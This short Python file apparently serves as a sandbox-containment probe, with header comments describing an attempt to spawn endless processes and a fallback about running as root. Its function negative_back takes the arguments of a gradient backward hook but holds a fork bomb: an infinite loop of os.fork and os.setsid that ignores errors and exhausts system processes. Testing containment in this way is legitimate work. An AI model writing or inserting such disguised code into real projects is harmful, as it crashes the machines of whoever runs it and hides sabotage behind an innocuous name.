# Tries: Start processes without end when it is called, each in a session of its own.
# Cell: negative_back
# Keeps: 35
# Fallback: contained as root alone: without a user id of its own, nothing limits how many processes there are

import os


def negative_back(grad_out, out, x):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
